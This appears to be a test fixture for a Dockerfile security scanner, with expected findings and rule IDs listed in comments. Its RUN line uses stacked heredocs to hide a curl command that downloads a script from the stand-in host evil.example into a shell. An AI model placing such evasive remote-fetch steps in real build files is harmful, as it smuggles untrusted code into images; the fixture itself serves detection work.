FROM alpine:3.20@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa
RUN <<A cat > /tmp/x && sh <<B
hello
A
curl -o /z https://evil.example/x.sh
B
USER app
# expect: download 2 high "curl fetches https://evil.example/x.sh"
# expect-count: 3
# expect-ids: VR101-c33602e201 VR301-767a1989de VR501-e064bac1a6
